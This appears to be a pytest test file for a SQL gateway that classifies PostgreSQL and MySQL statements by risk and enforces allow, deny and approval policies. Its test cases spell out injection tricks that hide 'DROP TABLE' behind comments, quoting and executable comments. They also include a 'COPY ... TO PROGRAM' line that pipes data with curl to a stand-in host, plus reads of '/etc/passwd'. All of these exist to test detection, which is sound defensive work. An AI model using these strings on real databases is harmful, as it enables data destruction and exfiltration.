"""Statement classification (both dialects), policy precedence and config validation, the gate."""

from __future__ import annotations

import pytest

from hoopcli.gateway.approvals import ApprovalBook
from hoopcli.gateway.policy import (
    CATEGORIES,
    DEFAULT_RULES,
    Policy,
    StatementClass,
    classify,
    make_gate,
)
from hoopcli.gateway.protocols.base import ALLOW

PG, MY = "postgres", "mysql"

# (dialect, sql, expected categories per part; a part's set must be a subset of what classify
# found). What must NOT be found is checked by test_classify_does_not_overreport below.
CASES = [
    # --- PostgreSQL: multi-statement and comment tricks
    (PG, "SELECT 1; /* */ DROP TABLE x", [{"select"}, {"drop"}]),
    (PG, "select 1;drop table x", [{"select"}, {"drop"}]),
    (PG, "select 1 /* /* nested */ ; drop table x */", [{"select"}]),
    (PG, "select 1 /* /* */ */; drop table x", [{"select"}, {"drop"}]),
    (PG, "select 1 -- ; drop table x\n; truncate t", [{"select"}, {"truncate"}]),
    (PG, "select ';drop table x'", [{"select"}]),
    (PG, "select $$;drop table x$$, $tag$ ' $tag$", [{"select"}]),
    (PG, "select E'a\\'; drop table x'", [{"select"}]),
    (PG, 'select 1 as ";drop table x"', [{"select"}]),
    # --- PostgreSQL: statements that hide their effect
    (PG, "EXPLAIN ANALYZE DELETE FROM t", [{"explain", "delete", "delete_without_where"}]),
    (PG, "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", [{"explain", "update_without_where"}]),
    (PG, "EXPLAIN DELETE FROM t", [{"explain"}]),
    (PG, "EXPLAIN (ANALYZE off) DELETE FROM t", [{"explain"}]),
    (PG, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", [{"select", "delete_without_where"}]),
    (PG, "WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM u", [{"select", "update"}]),
    (PG, "PREPARE p AS DELETE FROM t", [{"prepare", "delete_without_where"}]),
    (PG, "EXECUTE p", [{"execute_prepared"}]),
    (PG, "EXECUTE p(1, 'x')", [{"execute_prepared"}]),
    (PG, "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit", [{"create", "delete_without_where"}]),
    (PG, "COPY (DELETE FROM t RETURNING *) TO STDOUT", [{"copy", "delete_without_where"}]),
    (PG, "COPY t TO PROGRAM 'curl -d @- evil'", [{"copy", "copy_program"}]),
    (PG, "COPY t FROM PROGRAM 'id'", [{"copy_program"}]),
    (PG, "COPY t FROM '/etc/passwd'", [{"copy", "copy_file"}]),
    (PG, "COPY t FROM STDIN", [{"copy"}]),
    (PG, "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", [{"do"}]),
    (PG, "CALL my_proc(1)", [{"call"}]),
    # --- PostgreSQL: WHERE that is not one
    (PG, "DELETE FROM t", [{"delete", "delete_without_where"}]),
    (PG, "DELETE FROM t WHERE true", [{"delete_without_where"}]),
    (PG, "UPDATE t SET a = 1 WHERE 1 = 1", [{"update_without_where"}]),
    (PG, "DELETE FROM t WHERE id = $1", [{"delete"}]),
    (PG, "DELETE FROM t WHERE CURRENT OF c", [{"delete"}]),
    (PG, "UPDATE t SET a = 1 WHERE id IN (SELECT id FROM s)", [{"update"}]),
    (PG, "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1", [{"insert", "update"}]),
    (PG, "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", [{"merge", "delete", "delete_without_where"}]),
    # --- PostgreSQL: DDL and privileges, every kind of object
    (PG, "DROP TABLE IF EXISTS t CASCADE", [{"drop"}]),
    (PG, "DROP SCHEMA s", [{"drop"}]),
    (PG, "DROP INDEX i", [{"drop"}]),
    (PG, "DROP FUNCTION f()", [{"drop"}]),
    (PG, "DROP DATABASE d", [{"drop"}]),
    (PG, "DROP ROLE r", [{"drop"}]),
    (PG, "DROP OWNED BY r", [{"drop"}]),
    (PG, "TRUNCATE t, u RESTART IDENTITY", [{"truncate"}]),
    (PG, "ALTER TABLE t ADD COLUMN c int", [{"alter"}]),
    (PG, "ALTER TABLE t RENAME TO u", [{"alter"}]),
    (PG, "ALTER TABLE t SET SCHEMA s", [{"alter"}]),
    (PG, "ALTER TABLE t OWNER TO r", [{"alter"}]),
    (PG, "ALTER ROLE r SUPERUSER", [{"alter"}]),
    (PG, "ALTER SYSTEM SET work_mem = '1GB'", [{"alter"}]),
    (PG, "GRANT SELECT ON t TO u", [{"grant"}]),
    (PG, "GRANT admin TO u", [{"grant"}]),
    (PG, "REVOKE ALL ON t FROM u", [{"revoke"}]),
    (PG, "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO u", [{"alter", "grant"}]),
    (PG, "CREATE TABLE t (a int)", [{"create"}]),
    (PG, "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ select 1 $$", [{"create"}]),
    (PG, "SELECT * INTO t2 FROM t", [{"select", "create"}]),
    # --- PostgreSQL: routine
    (PG, "SELECT abalance FROM pgbench_accounts WHERE aid = 42", [{"select"}]),
    (PG, "INSERT INTO t (a) VALUES ($1)", [{"insert"}]),
    (PG, "UPDATE pgbench_accounts SET abalance = abalance + 1 WHERE aid = 3", [{"update"}]),
    (PG, "BEGIN; SET LOCAL statement_timeout = 5; COMMIT", [{"transaction"}, {"set"}, {"transaction"}]),
    (PG, "SHOW search_path", [{"show"}]),
    (PG, "LOAD 'auto_explain'", [{"load_library"}]),
    (PG, "selec 1", [{"unparseable"}]),
    (PG, "SELECT 1; DROP TABLE (", [{"unparseable"}]),
    # --- MySQL: multi-statement and comment tricks
    (MY, "SELECT 1; /* */ DROP TABLE x", [{"select"}, {"drop"}]),
    (MY, "select 1;drop table x", [{"select"}, {"drop"}]),
    (MY, "SELECT 1 --1; DROP TABLE x", [{"select"}, {"drop"}]),  # --1 is not a comment
    (MY, "SELECT 1 -- c; DROP TABLE x", [{"select"}]),
    (MY, "SELECT 1 # c; DROP TABLE x\n; TRUNCATE t", [{"select"}, {"truncate"}]),
    (MY, "SELECT 1 /*! ; DROP TABLE x */", [{"select"}, {"drop"}]),  # executable comment
    (MY, "SELECT 1 /*!50000 ; DROP TABLE x */", [{"select"}, {"drop"}]),
    (MY, "/*M!100100 DROP TABLE x */", [{"drop"}]),  # MariaDB's executable comment
    (MY, "SELECT 1 /* /* */ ; DROP TABLE x", [{"select"}, {"drop"}]),  # MySQL comments do not nest
    (MY, "SELECT ';drop table x', \";drop table y\", `a;b` FROM t", [{"select"}]),
    (MY, "SELECT 'it''s; drop table x', \"say \"\"hi\"\";\"", [{"select"}]),
    # --- MySQL: DDL, privileges, files
    (MY, "DROP DATABASE shop", [{"drop"}]),
    (MY, "DROP SCHEMA IF EXISTS shop", [{"drop"}]),
    (MY, "DROP USER 'u'@'%'", [{"drop"}]),
    (MY, "DROP EVENT e", [{"drop"}]),
    (MY, "RENAME TABLE a TO b", [{"alter"}]),
    (MY, "ALTER TABLE t DROP COLUMN c", [{"alter"}]),
    (MY, "TRUNCATE TABLE t", [{"truncate"}]),
    (MY, "GRANT ALL ON *.* TO 'u'@'%'", [{"grant"}]),
    (MY, "REVOKE ALL ON *.* FROM 'u'@'%'", [{"revoke"}]),
    (MY, "LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE t", [{"load_data"}]),
    (MY, "LOAD DATA INFILE '/var/lib/mysql-files/x' INTO TABLE t", [{"load_data", "copy_file"}]),
    (MY, "SELECT * FROM t INTO OUTFILE '/tmp/x'", [{"copy_file"}]),
    # --- MySQL: DML
    (MY, "DELETE FROM t", [{"delete", "delete_without_where"}]),
    (MY, "DELETE FROM t WHERE id = 1", [{"delete"}]),
    (MY, "DELETE FROM t WHERE 1 = 1", [{"delete_without_where"}]),
    (MY, "UPDATE t SET a = 1", [{"update", "update_without_where"}]),
    (MY, "UPDATE t SET a = 1 WHERE id = 2", [{"update"}]),
    (MY, "WITH d AS (SELECT 1) DELETE FROM t", [{"delete_without_where"}]),
    (MY, "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 2", [{"insert", "update"}]),
    (MY, "REPLACE INTO t VALUES (1)", [{"insert"}]),
    # --- MySQL: prepared and executed elsewhere
    (MY, "PREPARE s FROM 'DROP TABLE x'", [{"prepare", "drop"}]),
    (MY, "PREPARE s FROM @sql", [{"prepare", "dynamic_sql"}]),
    (MY, "EXECUTE s USING @a", [{"execute_prepared"}]),
    (MY, "DEALLOCATE PREPARE s", [{"prepare"}]),
    (MY, "EXPLAIN ANALYZE DELETE FROM t", [{"explain", "delete_without_where"}]),
    (MY, "EXPLAIN DELETE FROM t", [{"explain"}]),
    (MY, "ANALYZE DELETE FROM t", [{"explain", "delete_without_where"}]),  # MariaDB runs it
    (MY, "ANALYZE TABLE t", [{"maintenance"}]),
    (MY, "BEGIN NOT ATOMIC DROP TABLE x; END", [{"do"}, {"unparseable"}]),
    (MY, "CALL p(1)", [{"call"}]),
    # --- MySQL: routine
    (MY, "SELECT abalance FROM pgbench_accounts WHERE aid = 42", [{"select"}]),
    (MY, "START TRANSACTION; COMMIT", [{"transaction"}, {"transaction"}]),
    (MY, "SET NAMES utf8mb4", [{"set"}]),
    (MY, "USE shop", [{"set"}]),
    (MY, "SHOW TABLES", [{"show"}]),
    (MY, "FLUSH PRIVILEGES", [{"admin"}]),
    (MY, "SHUTDOWN", [{"admin"}]),
    (MY, "FROBNICATE t", [{"unparseable"}]),
    (MY, "/* unterminated", [{"unparseable"}]),
    (MY, "SELECT 'unterminated", [{"unparseable"}]),
]


def _ids(case):
    dialect, sql, _ = case
    return f"{dialect}:{sql[:40]}"


@pytest.mark.parametrize("dialect,sql,expected", CASES, ids=[_ids(c) for c in CASES])
def test_classify(dialect, sql, expected):
    parts = classify(sql, dialect)
    assert len(parts) == len(expected), [p.categories for p in parts]
    for part, want in zip(parts, expected):
        assert want <= set(part.categories), (part.text, part.categories)
        assert set(part.categories) <= CATEGORIES


def test_case_table_is_large_and_covers_both_dialects():
    assert sum(1 for c in CASES if c[0] == PG) >= 40
    assert sum(1 for c in CASES if c[0] == MY) >= 40


@pytest.mark.parametrize(
    "dialect,sql,absent",
    [
        (PG, "EXPLAIN DELETE FROM t", "delete"),
        (PG, "SELECT 'DeleteStmt', '\"DeleteStmt\"'", "delete"),
        (PG, "DELETE FROM t WHERE id = 1", "delete_without_where"),
        (MY, "SELECT 1 -- c; DROP TABLE x", "drop"),
        (MY, "EXPLAIN DELETE FROM t", "delete"),
        (MY, "DELETE FROM t WHERE id = 1", "delete_without_where"),
    ],
)
def test_classify_does_not_overreport(dialect, sql, absent):
    assert all(absent not in p.categories for p in classify(sql, dialect))


def test_parts_carry_their_own_text():
    parts = classify("select 'é';  drop table x", PG)
    assert [p.text for p in parts] == ["select 'é'", "drop table x"]
    parts = classify("SELECT 1; DROP TABLE x;", MY)
    assert [p.text for p in parts] == ["SELECT 1", "DROP TABLE x"]


def test_empty_and_comment_only():
    assert classify("", PG) == [] and classify(" ; ; ", PG) == []
    assert classify("/* nothing */", PG) == []
    assert classify("", MY) == [] and classify("-- nothing\n;", MY) == []


def test_backslash_readings_pg():
    # With standard_conforming_strings = off (settable by any client) the server reads a DROP.
    sql = "SELECT 'x\\'' ; DROP TABLE t; --'"
    parts = classify(sql, PG)
    assert parts[0].categories == ("select",)
    assert any({"drop", "ambiguous"} <= set(p.categories) for p in parts[1:])
    # An ordinary backslash inside a literal reads the same either way: nothing extra.
    assert [p.categories for p in classify("SELECT 'C:\\temp'", PG)] == [("select",)]


def test_backslash_readings_mysql():
    # Under NO_BACKSLASH_ESCAPES, '\' is a whole string and the DROP runs.
    parts = classify("SELECT 'a\\'; DROP TABLE x; -- '", MY)
    assert any({"drop", "ambiguous"} <= set(p.categories) for p in parts)
    # ... and here the WHERE turns into a comment.
    parts = classify("UPDATE t SET a = '\\' #' WHERE id = 1", MY)
    assert parts[0].categories == ("update",)
    assert any("update_without_where" in p.categories for p in parts)
    # Under ANSI_QUOTES "..." is an identifier in which a backslash escapes nothing.
    parts = classify('SELECT "a\\"; DROP TABLE x; -- "', MY)
    assert any({"drop", "ambiguous"} <= set(p.categories) for p in parts)
    # mysqldump's escaped quotes only ever insert.
    assert [p.categories for p in classify("INSERT INTO t VALUES ('it\\'s')", MY)] == [("insert",)]


def test_classify_rejects_unknown_dialect_and_caches():
    with pytest.raises(ValueError, match="dialect"):
        classify("select 1", "oracle")
    assert classify("select 1", "postgresql") == classify("select 1", PG)
    assert classify("select 1", "mariadb") == classify("select 1", MY)
    sql = "SELECT 'cache probe'"
    first = classify(sql, PG)
    assert classify(sql, PG) == first and classify(sql, PG) is not first  # a copy, not the cache's own
    assert isinstance(first[0], StatementClass)


# ---- policy ---------------------------------------------------------------------------------

ALICE = ("alice", ("dev",))
AGENT = ("bot-7", ("agents",))

EXAMPLE = {
    "default": "allow",
    "unparseable": "require_approval",
    "rules": [
        {"match": ["drop", "truncate", "alter", "grant", "revoke", "delete_without_where", "update_without_where"],
         "action": "require_approval"},
        {"match": ["copy_program"], "action": "deny"},
        {"groups": ["agents"], "match": ["delete", "update", "insert"], "action": "require_approval"},
    ],
}


def test_example_policy():
    policy = Policy.from_config(EXAMPLE)
    d = policy.decide("SELECT 1", ALICE, PG)
    assert (d.action, d.rule_index, d.reason) == ("allow", None, "default: select")
    d = policy.decide("DROP TABLE t", ALICE, PG)
    assert (d.action, d.rule_index, d.reason) == ("require_approval", 0, "rule 0: drop")
    d = policy.decide("COPY t TO PROGRAM 'x'", ALICE, PG)
    assert (d.action, d.rule_index, d.reason) == ("deny", 1, "rule 1: copy_program")
    assert policy.decide("DELETE FROM t WHERE id = 1", ALICE, PG).action == "allow"
    d = policy.decide("DELETE FROM t WHERE id = 1", AGENT, PG)
    assert (d.action, d.rule_index) == ("require_approval", 2)
    d = policy.decide("select from where", ALICE, PG)
    assert (d.action, d.rule_index, d.reason, d.categories) == ("require_approval", None, "unparseable", ("unparseable",))


def test_multi_statement_takes_the_riskiest_part():
    policy = Policy.from_config(EXAMPLE)
    d = policy.decide("SELECT 1; DROP TABLE t; COPY t TO PROGRAM 'x'; SELECT 2", ALICE, PG)
    assert d.action == "deny" and d.rule_index == 1
    assert {"select", "drop", "copy_program"} <= set(d.categories)
    d = policy.decide("SELECT 1; DROP TABLE t", ALICE, MY)
    assert d.action == "require_approval"


def test_every_category_counts_not_only_the_first_matching_rule():
    # COPY (DELETE ...) TO PROGRAM matches rule 0 and rule 1: the deny wins.
    policy = Policy.from_config(EXAMPLE)
    assert policy.decide("COPY (DELETE FROM t RETURNING *) TO PROGRAM 'x'", ALICE, PG).action == "deny"


def test_allow_list_cannot_be_bypassed_with_a_cte():
    policy = Policy.from_config({"default": "deny", "rules": [{"match": ["select"], "action": "allow"}]})
    assert policy.decide("SELECT 1", ALICE, PG).action == "allow"
    d = policy.decide("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", ALICE, PG)
    assert d.action == "deny" and d.reason.startswith("default: delete")


def test_earlier_group_rule_exempts_later_general_rule():
    policy = Policy.from_config({"rules": [
        {"groups": ["dba"], "match": ["drop"], "action": "allow"},
        {"match": ["drop"], "action": "require_approval"},
    ]})
    assert policy.decide("DROP TABLE t", ("carol", ["dba"]), PG).action == "allow"
    assert policy.decide("DROP TABLE t", ALICE, PG).action == "require_approval"


def test_subject_rules():
    policy = Policy.from_config({"rules": [{"subjects": ["bot-7"], "match": ["select"], "action": "deny"}]})
    assert policy.decide("SELECT 1", AGENT, PG).action == "deny"
    assert policy.decide("SELECT 1", ALICE, PG).action == "allow"


def test_unparseable_setting_and_rule():
    assert Policy.from_config({"unparseable": "deny"}).decide("selec", ALICE, PG).action == "deny"
    assert Policy.from_config({"unparseable": "allow"}).decide("selec", ALICE, PG).action == "allow"
    assert Policy().decide("selec", ALICE, PG).action == "require_approval"  # the documented default
    policy = Policy.from_config({"unparseable": "allow", "rules": [{"match": ["unparseable"], "action": "deny"}]})
    assert policy.decide("selec", ALICE, PG).rule_index == 0


def test_default_policy():
    policy = Policy.from_config("default")
    assert policy.rules == DEFAULT_RULES
    assert (policy.default, policy.unparseable) == ("allow", "require_approval")
    assert policy.decide("TRUNCATE t", ALICE, PG).action == "require_approval"
    assert policy.decide("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", ALICE, PG).action == "require_approval"
    assert policy.decide("COPY t FROM PROGRAM 'id'", ALICE, PG).action == "deny"
    assert policy.decide("DELETE FROM t WHERE id = 1", AGENT, PG).action == "allow"
    assert policy.decide("", ALICE, PG) .action == "allow"
    assert Policy.from_config({"rules": "default", "default": "deny"}).rules == DEFAULT_RULES


@pytest.mark.parametrize(
    "config,field",
    [
        ("strict", "policy"),
        (42, "policy"),
        ({"defualt": "allow"}, "policy.defualt"),
        ({"default": "hold"}, "policy.default"),
        ({"unparseable": "maybe"}, "policy.unparseable"),
        ({"rules": {"match": ["drop"]}}, "policy.rules"),
        ({"rules": ["drop"]}, "policy.rules[0]"),
        ({"rules": [{"action": "deny"}]}, "policy.rules[0].match"),
        ({"rules": [{"match": ["drop"]}]}, "policy.rules[0].action"),
        ({"rules": [{"match": "drop", "action": "deny"}]}, "policy.rules[0].match"),
        ({"rules": [{"match": [], "action": "deny"}]}, "policy.rules[0].match"),
        ({"rules": [{"match": ["drop"], "action": "deny"}, {"match": ["delete_without_were"], "action": "deny"}]},
         "policy.rules[1].match"),
        ({"rules": [{"match": ["drop"], "action": "block"}]}, "policy.rules[0].action"),
        ({"rules": [{"match": ["drop"], "action": "deny", "groups": "agents"}]}, "policy.rules[0].groups"),
        ({"rules": [{"match": ["drop"], "action": "deny", "subjects": [1]}]}, "policy.rules[0].subjects"),
        ({"rules": [{"match": ["drop"], "action": "deny", "group": ["x"]}]}, "policy.rules[0].group"),
    ],
)
def test_from_config_names_the_bad_field(config, field):
    with pytest.raises(ValueError) as err:
        Policy.from_config(config)
    assert str(err.value).startswith(field + ":"), str(err.value)


def test_from_config_prefix():
    with pytest.raises(ValueError, match=r"^connections\.app-db\.policy\.default:"):
        Policy.from_config({"default": "nope"}, where="connections.app-db.policy")


# ---- the gate -------------------------------------------------------------------------------


class Clock:
    def __init__(self) -> None:
        self.now = 1_000_000.0

    def __call__(self) -> float:
        return self.now


def test_gate_allow_deny_hold_and_one_use_grant():
    book = ApprovalBook({"dba"}, clock=Clock())
    gate = make_gate(Policy.from_config(EXAMPLE), book, ALICE, "app-db", PG)
    assert gate("SELECT 1") is ALLOW
    denied = gate("COPY t TO PROGRAM 'x'")
    assert denied.action == "deny" and denied.message == "hoop: statement denied by policy (rule 1: copy_program)"

    held = gate("DROP TABLE t")
    assert held.action == "hold" and held.request_id and held.rule == "rule 0: drop"
    assert held.message == (
        f"hoop: statement held for approval (request {held.request_id}). "
        f"An approver runs: hoop approvals approve {held.request_id}"
    )
    assert gate("DROP TABLE t").request_id == held.request_id  # the same request, not a new one
    assert len(book.list()) == 1

    book.approve(held.request_id, "carol", ["dba"], "ok")
    assert gate("DROP TABLE t  ").action == "hold"  # a different text is not approved
    passed = gate("DROP TABLE t")
    assert passed.action == "allow" and passed.request_id == held.request_id
    again = gate("DROP TABLE t")  # the grant was for one use
    assert again.action == "hold" and again.request_id != held.request_id


def test_gate_without_a_book_denies_what_needs_approval():
    gate = make_gate(Policy.from_config("default"), None, ALICE, "app-db", MY)
    verdict = gate("DROP DATABASE shop")
    assert verdict.action == "deny" and "approvals are not enabled" in verdict.message
    assert gate("SELECT 1") is ALLOW


def test_gate_rejects_unknown_dialect_up_front():
    with pytest.raises(ValueError):
        make_gate(Policy(), None, ALICE, "app-db", "sqlite")


# ---- fuzzing --------------------------------------------------------------------------------

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

FAST = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
SQLISH = st.text(
    alphabet=st.sampled_from(list("'\"`\\$;-#/*!Mé \n\tselctdropablxE0123(),=")), max_size=60
)


@FAST
@given(text=st.text(max_size=80) | SQLISH, dialect=st.sampled_from([PG, MY]))
def test_classify_never_raises_and_names_known_categories(text, dialect):
    for part in classify(text, dialect):
        assert part.categories and set(part.categories) <= CATEGORIES


@FAST
@given(value=st.text(max_size=40) | SQLISH)
def test_a_drop_after_any_pg_literal_is_seen(value):
    value = value.replace("\x00", "")
    literal = "'" + value.replace("'", "''") + "'"
    parts = classify(f"SELECT {literal}; DROP TABLE x", PG)
    assert any("drop" in p.categories for p in parts)


@FAST
@given(value=st.text(max_size=40) | SQLISH, quote=st.sampled_from(["'", '"']))
def test_a_drop_after_any_mysql_literal_is_seen(value, quote):
    literal = quote + value.replace("\\", "\\\\").replace(quote, quote * 2) + quote
    parts = classify(f"SELECT {literal}; DROP TABLE x", MY)
    assert any("drop" in p.categories for p in parts)


def test_gate_fails_closed_when_the_policy_breaks(monkeypatch):
    gate = make_gate(Policy(), None, ALICE, "app-db", PG)

    def broken(*args, **kwargs):
        raise RuntimeError("bug")

    monkeypatch.setattr(Policy, "decide", broken)
    verdict = gate("SELECT 1")
    assert verdict.action == "deny" and "could not judge" in verdict.message


def test_undecodable_bytes_make_a_statement_unparseable():
    from hoopcli.gateway.policy import Policy

    policy = Policy.from_config("default")
    decision = policy.decide("SELECT '\ufffd' ; select 1", ("alice", ()), "postgres")
    assert decision.action == "require_approval" and "unparseable" in decision.categories


def test_statements_too_large_to_judge_on_the_relay_are_unparseable():
    from hoopcli.gateway.policy import MAX_JUDGED_CHARS, Policy

    huge = "insert into t values " + ",".join(["(1)"] * (MAX_JUDGED_CHARS // 3))
    decision = Policy.from_config("default").decide(huge, ("alice", ()), "postgres")
    assert decision.action == "require_approval" and decision.categories == ("unparseable",)


@pytest.mark.parametrize("sql, dialect", [("EXECUTE p", "postgres"), ("EXECUTE s", "mysql")])
def test_default_policy_holds_sql_level_execute(sql, dialect):
    from hoopcli.gateway.policy import Policy

    decision = Policy.from_config("default").decide(sql, ("alice", ()), dialect)
    assert decision.action == "require_approval" and "execute_prepared" in decision.categories


def test_a_statement_no_parser_reads_is_held_with_a_hint_that_it_may_be_a_typo():
    """Held, not forwarded (the server must not run what the classifier could not see); the
    message says the likely cause, and the approver's command stays the last part."""
    from hoopcli.gateway.approvals import ApprovalBook

    gate = make_gate(Policy(DEFAULT_RULES), ApprovalBook({"dba"}), ("alice", frozenset()), "app-db", PG)
    held = gate("selec 1")
    assert held.action == "hold" and held.rule == "unparseable"
    assert "could not read it (a typo?" in held.message
    assert held.message.endswith(f"An approver runs: hoop approvals approve {held.request_id}")
    assert "typo" not in gate("DROP TABLE t").message
